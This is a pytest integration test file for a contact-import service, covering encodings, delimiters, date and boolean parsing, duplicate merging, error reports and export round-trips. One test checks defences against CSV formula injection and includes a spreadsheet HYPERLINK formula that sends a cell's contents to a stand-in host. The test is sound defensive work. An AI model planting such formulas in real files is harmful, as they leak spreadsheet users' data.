"""Every file in tests/data/import-cases imported through the real RQ job.

Each test asserts the counts and stored values that the case's
NN_*.expected.md describes.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import text

from ceramic_app.db import tenant_connection
from ceramic_app.imports import service
from tests.conftest import IMPORT_CASES
from tests.integration.imports.support import (
    add_field,
    add_profile,
    counts,
    prepare,
    profiles,
    run_file,
    wait_for,
    wait_for_search,
)


def summary(created=0, updated=0, merged=0, skipped=0, rejected=0) -> dict[str, int]:
    return {
        "created": created,
        "updated": updated,
        "merged": merged,
        "skipped": skipped,
        "rejected": rejected,
    }


def error_rows(job) -> list[dict[str, str]]:
    path = job["error_file_path"]
    assert path, "the job has no error file"
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def field_keys(principal) -> set[str]:
    with tenant_connection(principal.workspace_id) as conn:
        return set(conn.execute(text("SELECT key FROM custom_fields")).scalars())


def test_case01_bom_header(principal, worker):
    job = run_file(principal, IMPORT_CASES / "01_utf8_bom_header.csv", worker=worker)
    assert job["status"] == "completed", job["error_message"]
    assert counts(job) == summary(created=3)
    stored = profiles(principal)
    assert stored["mira.kolbe@example.com"]["custom_id"] == "C-1001"
    assert stored["aiko.brandt@example.net"]["attributes"] == {
        "first_name": "Aiko",
        "last_name": "Brandt",
    }
    assert field_keys(principal) == {"first_name", "last_name"}
    for profile in stored.values():
        assert "\ufeff" not in repr(profile)


def test_case02_bom_before_quoted_header(principal, worker):
    job = run_file(
        principal, IMPORT_CASES / "02_bom_before_quoted_header.csv", worker=worker
    )
    assert counts(job) == summary(created=2)
    assert job["source"]["headers"][0] == "email"
    assert (
        profiles(principal)["lena.voss@example.com"]["attributes"]["last_name"]
        == "Voss"
    )


def test_case03_semicolon_detected(principal, worker):
    job = run_file(principal, IMPORT_CASES / "03_semicolon_excel_eu.csv", worker=worker)
    assert job["source"]["delimiter"] == ";"
    assert counts(job) == summary(created=3)
    stored = profiles(principal)
    assert (
        stored["greta.lind@example.com"]["attributes"]["company"]
        == "Lind, Hofer & Partner"
    )
    assert (
        stored["ines.varela@example.net"]["attributes"]["company"]
        == "Varela, Costa, Lda"
    )


def test_case03_wrong_delimiter_names_likely_one(principal):
    job = service.create_import(
        principal,
        "03.csv",
        IMPORT_CASES / "03_semicolon_excel_eu.csv",
        overrides={"delimiter": ","},
    )
    proposal = service.propose_mapping_for(principal, job["id"])
    assert any("seems to use ';' as the delimiter" in p for p in proposal["problems"])
    problems = service.save_mapping(
        principal, job["id"], proposal["mapping"], proposal["options"]
    )
    assert problems == proposal["problems"]
    with pytest.raises(service.ImportRequestError, match="';' as the delimiter"):
        service.start_import(principal, job["id"])


def test_case05_multibyte_roundtrip(principal, worker):
    job = run_file(
        principal, IMPORT_CASES / "05_utf8_multibyte_roundtrip.csv", worker=worker
    )
    assert counts(job) == summary(created=4)
    stored = profiles(principal)
    assert stored["ines.conceicao@example.com"]["attributes"] == {
        "first_name": "Inês",
        "last_name": "Conceição",
        "city": "São Brás",
        "notes": "ação & coração",
    }
    assert stored["hinata.sano@example.net"]["attributes"]["notes"] == "launch 🚀 ok"
    assert stored["lukasz.zrodlo@example.com"]["attributes"]["notes"] == "ß vs ẞ"
    assert "Ã" not in repr(stored)
    assert "Â" not in repr(stored)
    wait_for_search(principal, job["id"], worker=worker)
    with tenant_connection(principal.workspace_id) as conn:
        for term in ("conceição", "CONCEIÇÃO"):
            found = (
                conn.execute(
                    text(
                        "SELECT p.email_key FROM profile_search s"
                        " JOIN profiles p"
                        "   ON p.workspace_id = s.workspace_id AND p.id = s.profile_id"
                        " WHERE s.document @@ plainto_tsquery('simple', :q)"
                    ),
                    {"q": term},
                )
                .scalars()
                .all()
            )
            assert found == ["ines.conceicao@example.com"]


def test_case06_utf16le_tab(principal, worker):
    job = run_file(
        principal, IMPORT_CASES / "06_utf16le_tab_excel_unicode.csv", worker=worker
    )
    assert job["source"]["encoding"] == "utf-16-le"
    assert job["source"]["delimiter"] == "\t"
    assert counts(job) == summary(created=2)
    stored = profiles(principal)
    assert stored["nora.falk@example.com"]["attributes"]["city"] == "Malmö"
    assert "\x00" not in repr(stored)


def test_case07_quoted_newlines(principal, worker):
    job = run_file(
        principal, IMPORT_CASES / "07_quoted_newlines_commas.csv", worker=worker
    )
    assert counts(job) == summary(created=3)
    stored = profiles(principal)
    lena = stored["lena.voss@example.com"]["attributes"]
    assert lena["address"].replace("\r\n", "\n") == "Hafenweg 3\n2. OG\n20457 Hamburg"
    assert lena["notes"] == 'said "call after 5", prefers email'
    aiko = stored["aiko.brandt@example.net"]["attributes"]
    assert aiko["address"] == "Line one\nLine two (LF only inside quotes)"
    assert aiko["notes"] == "a,b,c"


def test_case07_errors_cite_start_line(principal, worker, tmp_path):
    raw = (IMPORT_CASES / "07_quoted_newlines_commas.csv").read_bytes()
    broken = raw.replace(b"tomasz.wren@example.org", b"tomasz.wren").replace(
        b"aiko.brandt@example.net", b"aiko@@example.net"
    )
    path = tmp_path / "07_broken.csv"
    path.write_bytes(broken)
    job = run_file(principal, path, worker=worker)
    assert counts(job) == summary(created=1, rejected=2)
    assert [row["line"] for row in error_rows(job)] == ["5", "6"]
    assert [e["line"] for e in job["report"]["errors"]] == [5, 6]


def test_case10_blank_headers_and_ragged_rows(principal, worker):
    job = run_file(
        principal, IMPORT_CASES / "10_trailing_empty_columns.csv", worker=worker
    )
    assert counts(job) == summary(created=4)
    assert field_keys(principal) == {"first_name", "last_name"}
    messages = [(w["line"], w["message"]) for w in job["report"]["warnings"]]
    assert messages == [
        (3, "value 'stray value' in column 5, which has no header — ignored"),
        (5, "2 values beyond the last header column ignored ('', 'extra')"),
    ]
    assert job["warning_count"] == 2
    ines = profiles(principal)["ines.varela@example.net"]["attributes"]
    assert ines == {"first_name": "Ines"}


def test_case11_header_variants(principal, worker):
    job_id, proposal = prepare(principal, IMPORT_CASES / "11_header_name_variants.csv")
    targets = {
        c["source"]: (c["target"], c.get("key"), c.get("type"))
        for c in proposal["mapping"]["columns"]
    }
    assert targets == {
        " E-mail Address ": ("email", None, None),
        "First Name": ("new_field", "first_name", "text"),
        "LAST_NAME": ("new_field", "last_name", "text"),
        "Custom ID": ("custom_id", None, None),
        "Date of Birth": ("new_field", "date_of_birth", "date"),
        "Newsletter Opt-In": ("new_field", "newsletter_opt_in", "boolean"),
    }
    service.start_import(principal, job_id)
    job = wait_for(principal, job_id, worker=worker)
    assert counts(job) == summary(created=2)
    nora = profiles(principal)["nora.falk@example.com"]
    assert nora["custom_id"] == "C-2001"
    assert nora["attributes"]["date_of_birth"] == "1988-07-14"
    assert nora["attributes"]["newsletter_opt_in"] is True
    assert (
        profiles(principal)["ravi.menon@example.org"]["attributes"]["newsletter_opt_in"]
        is False
    )
    with tenant_connection(principal.workspace_id) as conn:
        label = conn.execute(
            text("SELECT label FROM custom_fields WHERE key = 'date_of_birth'")
        ).scalar_one()
    assert label == "Date of Birth"


def test_case12_blank_lines(principal, worker):
    job = run_file(
        principal, IMPORT_CASES / "12_blank_and_comma_only_lines.csv", worker=worker
    )
    assert counts(job) == summary(created=3, skipped=6, rejected=1)
    assert job["report"]["counts"]["blank"] == 6
    [error] = error_rows(job)
    assert error["line"] == "7"
    assert (
        error["reason"]
        == "email: 'not-an-email' is not a valid e-mail address: missing '@'"
    )
    assert set(profiles(principal)) == {
        "ana.pereira@example.com",
        "ben.okafor@example.org",
        "cleo.marsh@example.net",
    }


def test_case13_duplicates_merge(principal, worker):
    add_profile(
        principal,
        "ana.pereira@example.com",
        {"first_name": "Ana", "last_name": "Pereira"},
        custom_id="C-100",
    )
    job = run_file(
        principal, IMPORT_CASES / "13_duplicate_emails_case.csv", worker=worker
    )
    assert counts(job) == summary(created=1, updated=1, merged=2)
    stored = profiles(principal)
    assert len(stored) == 2
    assert stored["ana.pereira@example.com"]["attributes"] == {
        "first_name": "Ana",
        "last_name": "Pereira",
        "city": "Lisbon",
    }
    ben = stored["ben.okafor@example.org"]
    assert ben["email"] == "ben.okafor@example.org"
    assert ben["custom_id"] == "C-200"
    assert ben["attributes"] == {
        "first_name": "Benjamin",
        "last_name": "Okafor-Smith",
        "city": "Abuja",
    }
    messages = [w["message"] for w in job["report"]["warnings"]]
    assert "line 4 has the same e-mail as line 3; merged" in messages
    assert "line 5 has the same e-mail as line 3; merged" in messages
    merge = next(w for w in job["report"]["warnings"] if w["line"] == 4)
    assert merge["column"] == "email"
    assert merge["value"] == "Ben.Okafor@Example.org"
    with tenant_connection(principal.workspace_id) as conn:
        changes = conn.execute(
            text("SELECT actor_type, changes FROM profile_changes")
        ).all()
    assert changes == [("import_job", {"city": [None, "Lisbon"]})]


EXPECTED_14 = {
    "3": "missing '@'",
    "4": "more than one '@'",
    "5": "more than one '@'",
    "6": "the domain has no dot",
    "7": "empty domain label ('..')",
    "8": "starts with '.'",
    "9": "contains a space",
    "10": "more than one address in the cell",
    "11": "remove the 'mailto:' prefix",
    "12": "an e-mail address is required",
    "13": "use only the address, not 'Name <address>'",
    "16": "'_' is not allowed in a domain",
}


def test_case14_invalid_emails(principal, worker):
    job = run_file(principal, IMPORT_CASES / "14_invalid_emails.csv", worker=worker)
    assert counts(job) == summary(created=3, rejected=12)
    assert set(profiles(principal)) == {
        "valid.one@example.com",
        "valid.two+news@example.org",
        "kim.o'dell@example.com",
    }
    rows = error_rows(job)
    assert [r["line"] for r in rows] == list(EXPECTED_14)
    for row in rows:
        assert EXPECTED_14[row["line"]] in row["reason"], row
        assert row["reason"].startswith("email: ")
    assert rows[0]["email"] == "no-at-sign.example.com"
    assert rows[0]["first_name"] == "Missing"
    assert job["report"]["column_errors"] == {"email": 12}


def test_case16_leading_zeros(principal, worker):
    job_id, proposal = prepare(principal, IMPORT_CASES / "16_leading_zeros_ids.csv")
    types = {c.get("key"): c.get("type") for c in proposal["mapping"]["columns"]}
    assert types["postal_code"] == "text"
    assert types["phone"] == "text"
    assert types["member_no"] == "text"
    service.start_import(principal, job_id)
    job = wait_for(principal, job_id, worker=worker)
    assert counts(job) == summary(created=3)
    stored = profiles(principal)
    lena = stored["lena.voss@example.com"]
    assert lena["custom_id"] == "00123"
    assert lena["attributes"] == {
        "postal_code": "01730",
        "phone": "0049 30 5550101",
        "member_no": "000045",
    }
    assert (
        stored["tomasz.wren@example.org"]["attributes"]["phone"] == "+44 20 7946 0000"
    )
    assert stored["aiko.brandt@example.net"]["custom_id"] == "123"


def test_case18_ambiguous_dates(principal, worker):
    job = service.create_import(
        principal, "18.csv", IMPORT_CASES / "18_ambiguous_dates.csv"
    )
    proposal = service.propose_mapping_for(principal, job["id"])
    birthday = next(
        c for c in proposal["mapping"]["columns"] if c["source"] == "birthday"
    )
    assert birthday["type"] == "date"
    assert birthday["needs_choice"] == ["DD/MM/YYYY", "MM/DD/YYYY"]
    assert any("birthday" in p and "date format" in p for p in proposal["problems"])
    job = run_file(
        principal,
        IMPORT_CASES / "18_ambiguous_dates.csv",
        worker=worker,
        types={"birthday": "date", "signup_date": "date"},
        options={
            "date_formats": {"birthday": "DD/MM/YYYY", "signup_date": "DD/MM/YYYY"}
        },
    )
    assert counts(job) == summary(created=3, rejected=3)
    stored = profiles(principal)
    assert stored["ana.pereira@example.com"]["attributes"] == {
        "birthday": "1990-04-03",
        "signup_date": "2024-01-15",
    }
    assert stored["ben.okafor@example.org"]["attributes"] == {
        "birthday": "1990-04-13",
        "signup_date": "2024-01-15",
    }
    assert stored["fay.lund@example.com"]["attributes"] == {}
    reasons = {r["line"]: r["reason"] for r in error_rows(job)}
    assert "'04/13/1990' is not a valid DD/MM/YYYY date (month 13)" in reasons["4"]
    assert "'31/02/1990' is not a valid date" in reasons["5"]
    assert "'2024-02-30' is not a valid date" in reasons["5"]
    assert "4-digit year required" in reasons["6"]


def test_case19_excel_serial_default(principal, worker):
    job = run_file(
        principal,
        IMPORT_CASES / "19_excel_serial_dates.csv",
        worker=worker,
        types={"signup_date": "date", "birthday": "date"},
    )
    assert counts(job) == summary(created=1, rejected=3)
    reasons = {r["line"]: r["reason"] for r in error_rows(job)}
    assert reasons["2"].startswith(
        "signup_date: 45292 looks like an Excel serial date (= 2024-01-01)."
        " Enable 'Excel serial dates'"
    )
    assert "45292.5 looks like an Excel serial date (= 2024-01-01)" in reasons["3"]
    assert "60 looks like an Excel serial date" in reasons["4"]
    assert profiles(principal)["dov.hart@example.com"]["attributes"] == {
        "signup_date": "2024-01-01",
        "birthday": "1990-01-01",
    }


def test_case19_excel_serial_1900_option(principal, worker):
    job = run_file(
        principal,
        IMPORT_CASES / "19_excel_serial_dates.csv",
        worker=worker,
        types={"signup_date": "date", "birthday": "date"},
        options={"excel_dates": "1900"},
    )
    assert counts(job) == summary(created=3, rejected=1)
    stored = profiles(principal)
    assert stored["ana.pereira@example.com"]["attributes"] == {
        "signup_date": "2024-01-01",
        "birthday": "1990-01-01",
    }
    assert stored["ben.okafor@example.org"]["attributes"] == {
        "signup_date": "2024-01-01"
    }
    [error] = error_rows(job)
    assert error["line"] == "4"
    assert "1900-02-29" in error["reason"]
    assert any(
        "time part of 45292.5 dropped" in w["message"]
        for w in job["report"]["warnings"]
    )


def test_case19_excel_serial_1904_option(principal, worker):
    job = run_file(
        principal,
        IMPORT_CASES / "19_excel_serial_dates.csv",
        worker=worker,
        types={"signup_date": "date", "birthday": "date"},
        options={"excel_dates": "1904"},
    )
    assert counts(job) == summary(created=4)
    stored = profiles(principal)
    assert stored["cleo.marsh@example.net"]["attributes"] == {
        "signup_date": "1904-03-01"
    }
    assert (
        stored["ana.pereira@example.com"]["attributes"]["signup_date"] == "2028-01-02"
    )


def test_case20_booleans(principal, worker):
    _, proposal = prepare(principal, IMPORT_CASES / "20_boolean_variants.csv")
    types = {c.get("key"): c.get("type") for c in proposal["mapping"]["columns"]}
    assert types["vip"] == "text"  # 'maybe'/'x'/'ja' are not boolean spellings
    job = run_file(
        principal,
        IMPORT_CASES / "20_boolean_variants.csv",
        worker=worker,
        types={"newsletter_opt_in": "boolean", "vip": "boolean"},
    )
    assert counts(job) == summary(created=7, rejected=2)
    stored = profiles(principal)
    expected = {
        "a.one@example.com": {"newsletter_opt_in": True, "vip": True},
        "b.two@example.com": {"newsletter_opt_in": False, "vip": False},
        "c.three@example.com": {"newsletter_opt_in": True, "vip": False},
        "d.four@example.com": {"newsletter_opt_in": True, "vip": False},
        "e.five@example.com": {"newsletter_opt_in": True, "vip": False},
        "f.six@example.com": {},
        "g.seven@example.com": {"newsletter_opt_in": True, "vip": False},
    }
    assert {k: v["attributes"] for k, v in stored.items()} == expected
    reasons = {r["line"]: r["reason"] for r in error_rows(job)}
    assert reasons["9"].startswith(
        "newsletter_opt_in: 'maybe' is not a boolean (use true/false, yes/no"
    )
    assert "'x' is not a boolean" in reasons["9"]
    assert "'ja' is not a boolean" in reasons["10"]
    with tenant_connection(principal.workspace_id) as conn:
        vip_false = conn.execute(
            text("SELECT count(*) FROM profiles WHERE attributes @> '{\"vip\": false}'")
        ).scalar_one()
    assert vip_false == 5


def test_case23_nul_bytes(principal, worker):
    job = run_file(principal, IMPORT_CASES / "23_nul_bytes.csv", worker=worker)
    assert counts(job) == summary(created=2, rejected=2)
    assert set(profiles(principal)) == {
        "lena.voss@example.com",
        "aiko.brandt@example.net",
    }
    reasons = {r["line"]: r["reason"] for r in error_rows(job)}
    assert reasons == {
        "3": "first_name contains a NUL (0x00) character",
        "4": "email contains a NUL (0x00) character",
    }
    with tenant_connection(principal.workspace_id) as conn:
        report = conn.execute(text("SELECT report::text FROM import_jobs")).scalar_one()
    assert "\x00" not in report


def _mira(principal):
    add_profile(
        principal,
        "mira.kolbe@example.com",
        {
            "first_name": "Mira",
            "last_name": "Kolbe",
            "phone": "+49 30 5550101",
            "company": "Kolbe Design",
            "segment": "gold",
        },
    )
    for key in ("first_name", "last_name", "phone", "company", "segment"):
        add_field(principal, key, "text")


def test_case25_empty_cells_keep(principal, worker):
    _mira(principal)
    job = run_file(
        principal, IMPORT_CASES / "25_empty_cell_update_semantics.csv", worker=worker
    )
    assert counts(job) == summary(created=1, updated=1)
    stored = profiles(principal)
    assert stored["mira.kolbe@example.com"]["attributes"] == {
        "first_name": "Mira",
        "last_name": "Kolbe-Hart",
        "phone": "+49 30 5550101",
        "company": "Kolbe Design",
        "segment": "gold",
    }
    assert stored["nia.brook@example.org"]["attributes"] == {"first_name": "Nia"}
    assert job["options"]["empty_cells"] == "keep"


def test_case25_empty_cells_clear(principal, worker):
    _mira(principal)
    job = run_file(
        principal,
        IMPORT_CASES / "25_empty_cell_update_semantics.csv",
        worker=worker,
        options={"empty_cells": "clear"},
    )
    assert counts(job) == summary(created=1, updated=1)
    stored = profiles(principal)
    assert stored["mira.kolbe@example.com"]["attributes"] == {
        "first_name": "Mira",
        "last_name": "Kolbe-Hart",
    }
    assert stored["mira.kolbe@example.com"]["email"] == "mira.kolbe@example.com"
    with tenant_connection(principal.workspace_id) as conn:
        [changes] = conn.execute(text("SELECT changes FROM profile_changes")).scalars()
        entries = conn.execute(
            text(
                "SELECT actor_type, action, meta FROM audit_log WHERE action LIKE 'import.%'"
            )
        ).all()
    assert changes == {
        "last_name": ["Kolbe", "Kolbe-Hart"],
        "phone": ["+49 30 5550101", None],
        "company": ["Kolbe Design", None],
        "segment": ["gold", None],
    }
    assert len(entries) == 1
    assert entries[0][0] == "import_job"
    assert entries[0][2]["options"]["empty_cells"] == "clear"


def test_case26_json_null_vs_missing(principal, worker):
    _mira(principal)
    job_id, proposal = prepare(principal, IMPORT_CASES / "26_json_null_vs_missing.json")
    segment = next(
        c
        for c in proposal["mapping"]["columns"]
        if c["source"] == "custom_fields.segment"
    )
    assert segment["target"] == "field"
    assert segment["key"] == "segment"
    service.start_import(principal, job_id)
    job = wait_for(principal, job_id, worker=worker)
    assert counts(job) == summary(created=1, updated=1, rejected=2)
    stored = profiles(principal)
    assert stored["mira.kolbe@example.com"]["attributes"] == {
        "first_name": "Mira",
        "last_name": "Kolbe-Hart",
        "segment": "gold",
    }
    assert stored["nia.brook@example.org"]["attributes"] == {"first_name": "Nia"}
    errors = job["report"]["errors"]
    assert [(e["record"], e["line"], e["reason"]) for e in errors] == [
        (3, 15, "email: an e-mail address is required"),
        (4, 19, "email: an e-mail address is required"),
    ]


def test_case28_json_and_array_fields(principal, worker):
    add_field(principal, "preferences", "json")
    add_field(principal, "interests", "array")
    add_field(principal, "nickname", "text")
    job = run_file(
        principal, IMPORT_CASES / "28_json_and_array_custom_fields.csv", worker=worker
    )
    assert counts(job) == summary(created=3, rejected=3)
    stored = {k: v["attributes"] for k, v in profiles(principal).items()}
    assert stored == {
        "a.one@example.com": {
            "preferences": {"newsletter": True, "lang": "de"},
            "interests": ["hiking", "chess"],
            "nickname": "Ace",
        },
        "c.three@example.com": {
            "interests": ["hiking"],
            "nickname": '{"not":"json-for-me"}',
        },
        "d.four@example.com": {"preferences": {}, "interests": [], "nickname": "Dee"},
    }
    reasons = {r["line"]: r["reason"] for r in error_rows(job)}
    assert (
        reasons["3"] == "preferences: invalid JSON at line 1 column 9: Expecting value"
    )
    assert reasons["6"] == (
        "interests: '[hiking, chess]' starts with '[' but is not a valid JSON array;"
        ' use ["a","b"] or a,b'
    )
    assert reasons["7"].startswith("preferences: invalid JSON at line 1 column 8")


@pytest.mark.slow
def test_case32_huge_file(principal, worker, tmp_path):
    path = tmp_path / "big.csv"
    subprocess.run(
        [sys.executable, str(IMPORT_CASES / "32_huge_file_generator.py"), str(path)],
        check=True,
        capture_output=True,
    )
    job = run_file(
        principal, path, worker=worker, types={"signup_date": "date", "score": "number"}
    )
    assert counts(job) == summary(created=249_975, merged=1, rejected=24)
    assert job["records_done"] == 250_000
    rows = error_rows(job)
    expected_lines = [
        str(n + 1 if n < 200_001 else n + 2) for n in range(10_000, 250_000, 10_000)
    ]
    assert [r["line"] for r in rows] == expected_lines
    examples = [str(e["line"]) for e in job["report"]["errors"]]
    assert examples == expected_lines
    stored = profiles(principal)
    assert (
        stored["user200001@example.com"]["attributes"]["notes"]
        == "first line\nsecond line"
    )
    assert stored["user250000@example.org"]["attributes"]["first_name"] == "First250000"
    assert stored["user17@example.net"]["custom_id"] == "00123457"
    assert stored["user1@example.org"]["custom_id"] == "00000001"
    assert stored["user5@example.net"]["attributes"]["score"] == 5


def _export(principal) -> tuple[str, str]:
    from ceramic_app.imports.export import export_profiles_csv, export_profiles_json

    csv_buffer = io.StringIO()
    export_profiles_csv(principal.workspace_id, csv_buffer)
    json_buffer = io.StringIO()
    export_profiles_json(principal.workspace_id, json_buffer)
    return csv_buffer.getvalue(), json_buffer.getvalue()


def test_case22_formula_injection_export(principal, worker, make_principal, tmp_path):
    job = run_file(
        principal,
        IMPORT_CASES / "22_formula_injection_export.csv",
        worker=worker,
        types={"score": "number"},
    )
    assert counts(job) == summary(created=4)
    stored = profiles(principal)
    hugo = stored["hugo.lindqvist@example.com"]["attributes"]
    assert hugo["first_name"] == "=1+2"
    assert hugo["phone"] == "+46 8 5550100"
    assert hugo["score"] == -5
    assert stored["ida.marsh@example.org"]["attributes"]["notes"] == "\tleading tab"
    assert (
        stored["jon.bay@example.net"]["attributes"]["notes"]
        == "\rcarriage return first"
    )
    exported_csv, exported_json = _export(principal)
    rows = {
        r["email"]: r for r in csv.DictReader(io.StringIO(exported_csv, newline=""))
    }
    assert rows["hugo.lindqvist@example.com"]["first_name"] == "'=1+2"
    assert rows["hugo.lindqvist@example.com"]["company"] == (
        '\'=HYPERLINK("https://example.invalid/?q="&A2,"open")'
    )
    assert rows["hugo.lindqvist@example.com"]["phone"] == "'+46 8 5550100"
    assert rows["hugo.lindqvist@example.com"]["score"] == "-5"
    assert rows["ida.marsh@example.org"]["first_name"] == "'@SUM(1+1)"
    assert rows["ida.marsh@example.org"]["company"] == "'-2+3"
    assert rows["ida.marsh@example.org"]["notes"] == "'\tleading tab"
    assert rows["jon.bay@example.net"]["notes"] == "'\rcarriage return first"
    assert rows["jon.bay@example.net"]["phone"] == "030 5550111"
    assert rows["kai.berg@example.com"]["first_name"] == "Kai"
    assert rows["kai.berg@example.com"]["score"] == "-1"
    assert '"first_name": "=1+2"' in exported_json
    assert '"score": -5' in exported_json

    # Re-importing our own export: the apostrophes are kept unless the
    # unescape_formulas option is on, and then the values come back exactly.
    export_path = tmp_path / "export.csv"
    export_path.write_text(exported_csv, encoding="utf-8", newline="")
    for unescape, expected_name in ((False, "'=1+2"), (True, "=1+2")):
        other = make_principal()
        add_field(other, "score", "number")
        again = run_file(
            other, export_path, worker=worker, options={"unescape_formulas": unescape}
        )
        assert counts(again) == summary(created=4)
        restored = profiles(other)
        assert (
            restored["hugo.lindqvist@example.com"]["attributes"]["first_name"]
            == expected_name
        )
        if unescape:
            assert {k: v["attributes"] for k, v in restored.items()} == {
                k: v["attributes"] for k, v in stored.items()
            }


def test_case05_export_reimport_same_values(
    principal, worker, make_principal, tmp_path
):
    run_file(principal, IMPORT_CASES / "05_utf8_multibyte_roundtrip.csv", worker=worker)
    exported_csv, _ = _export(principal)
    path = tmp_path / "export.csv"
    path.write_text(exported_csv, encoding="utf-8", newline="")
    other = make_principal()
    again = run_file(other, path, worker=worker)
    assert counts(again) == summary(created=4)
    assert {k: v["attributes"] for k, v in profiles(other).items()} == {
        k: v["attributes"] for k, v in profiles(principal).items()
    }


def test_case07_export_reimport_same_values(
    principal, worker, make_principal, tmp_path
):
    run_file(principal, IMPORT_CASES / "07_quoted_newlines_commas.csv", worker=worker)
    exported_csv, _ = _export(principal)
    path = tmp_path / "export.csv"
    path.write_bytes(exported_csv.encode("utf-8"))
    other = make_principal()
    run_file(other, path, worker=worker)
    assert {k: v["attributes"] for k, v in profiles(other).items()} == {
        k: v["attributes"] for k, v in profiles(principal).items()
    }


def test_case28_export_reimport_round_trips(
    principal, worker, make_principal, tmp_path
):
    add_field(principal, "preferences", "json")
    add_field(principal, "interests", "array")
    add_field(principal, "nickname", "text")
    run_file(
        principal, IMPORT_CASES / "28_json_and_array_custom_fields.csv", worker=worker
    )
    exported_csv, _ = _export(principal)
    rows = {
        r["email"]: r for r in csv.DictReader(io.StringIO(exported_csv, newline=""))
    }
    assert rows["a.one@example.com"]["preferences"] == '{"lang":"de","newsletter":true}'
    assert rows["a.one@example.com"]["interests"] == '["hiking","chess"]'
    path = tmp_path / "export.csv"
    path.write_text(exported_csv, encoding="utf-8", newline="")
    other = make_principal()
    add_field(other, "preferences", "json")
    add_field(other, "interests", "array")
    add_field(other, "nickname", "text")
    run_file(other, path, worker=worker)
    assert {k: v["attributes"] for k, v in profiles(other).items()} == {
        k: v["attributes"] for k, v in profiles(principal).items()
    }


def test_error_file_reimports_as_is(principal, worker, tmp_path):
    job = run_file(principal, IMPORT_CASES / "14_invalid_emails.csv", worker=worker)
    fixed = (
        Path(job["error_file_path"])
        .read_text(encoding="utf-8")
        .replace("no-at-sign.example.com", "fixed.at.sign@example.com")
    )
    path = tmp_path / "fixed.csv"
    path.write_text(fixed, encoding="utf-8", newline="")
    again_id, proposal = prepare(principal, path)
    targets = [c["target"] for c in proposal["mapping"]["columns"]]
    assert targets[-2:] == ["skip", "skip"]
    service.start_import(principal, again_id)
    again = wait_for(principal, again_id, worker=worker)
    assert counts(again) == summary(created=1, rejected=11)
    assert "fixed.at.sign@example.com" in profiles(principal)
    assert "line" not in {
        c["key"] for c in proposal["mapping"]["columns"] if c.get("key")
    }
